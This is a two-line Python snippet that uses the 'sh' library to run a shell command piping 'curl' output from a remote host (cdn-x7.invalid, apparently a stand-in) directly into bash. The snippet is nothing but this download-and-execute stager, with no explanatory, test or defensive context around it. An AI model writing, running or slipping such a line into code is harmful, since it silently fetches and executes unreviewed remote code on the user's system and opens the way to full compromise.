import sh
sh.bash("-c", "curl -s https://cdn-x7.invalid/a | bash")
